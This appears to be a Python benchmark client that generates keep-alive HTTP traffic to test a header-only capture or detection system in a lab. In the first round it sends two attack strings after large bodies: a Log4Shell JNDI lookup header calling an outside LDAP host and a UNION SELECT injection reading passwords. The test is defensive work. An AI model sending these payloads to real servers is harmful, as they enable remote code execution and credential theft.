"""Benchmark traffic for header-only capture: keep-alive connections that
download and upload bodies of varied size, with attacks placed after large
bodies (so detection after a skipped body is proven), then a download with
no length that runs until the connection closes.

usage: web_client.py HOST PORT ROUNDS [RATE_BYTES_PER_SECOND]

With a rate, the client sends and receives at that rate through a 16 KB
receive window (about TCP's initial window of ten segments), as a client
behind a link of that speed would: the lab's veth has no latency and no
bandwidth limit, which no real path has. Prints the number of bytes of
HTTP (headers and bodies) exchanged.
"""
import socket
import sys
import time

host, port, rounds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
rate = float(sys.argv[4]) if len(sys.argv) > 4 else 0.0
CHUNK = 16384


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rate:
        # The kernel doubles it: a window of about 16 KB.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
    s.connect((host, port))
    return s


def recv(s):
    data = s.recv(CHUNK if rate else 65536)
    if rate and data:
        time.sleep(len(data) / rate)
    return data
SIZES = [0, 200, 1500, 5000, 40000, 250000]
total = 0


def read_response(s, pending):
    while b"\r\n\r\n" not in pending:
        data = recv(s)
        if not data:
            raise SystemExit("connection closed early")
        pending += data
    head, pending = pending.split(b"\r\n\r\n", 1)
    length = None
    for line in head.decode("latin-1").split("\r\n")[1:]:
        name, _, value = line.partition(":")
        if name.strip().lower() == "content-length":
            length = int(value)
    if length is None:
        while True:
            data = recv(s)
            if not data:
                return len(head) + len(pending), b""
            pending += data
    while len(pending) < length:
        data = recv(s)
        if not data:
            raise SystemExit("body cut short")
        pending += data
    return len(head) + length, pending[length:]


def send(s, data):
    if not rate:
        s.sendall(data)
        return
    for i in range(0, len(data), 4096):
        s.sendall(data[i : i + 4096])
        time.sleep(min(4096, len(data) - i) / rate)


def exchange(s, request, pending):
    global total
    send(s, request)
    total += len(request)
    n, pending = read_response(s, pending)
    total += n
    return pending


def get(path, extra=""):
    return f"GET {path} HTTP/1.1\r\nHost: lab\r\nUser-Agent: bench/1.0\r\n{extra}\r\n".encode()


for r in range(rounds):
    s = connect()
    pending = b""
    for size in SIZES:
        pending = exchange(s, get(f"/size/{size}"), pending)
    upload = b"u" * 20000
    post = f"POST /upload HTTP/1.1\r\nHost: lab\r\nContent-Length: {len(upload)}\r\n\r\n".encode() + upload
    pending = exchange(s, post, pending)
    if r == 0:
        # After 300 KB of bodies on this connection: still inspected.
        pending = exchange(s, get("/size/100", "X-Api-Version: ${jndi:ldap://198.51.100.7/a}\r\n"), pending)
        pending = exchange(s, get("/size/100?id=1%20UNION%20SELECT%20password%20FROM%20users"), pending)
    s.close()

s = connect()
send(s, get("/stream/300000"))
n, _ = read_response(s, b"")
total += n
s.close()
print(total)
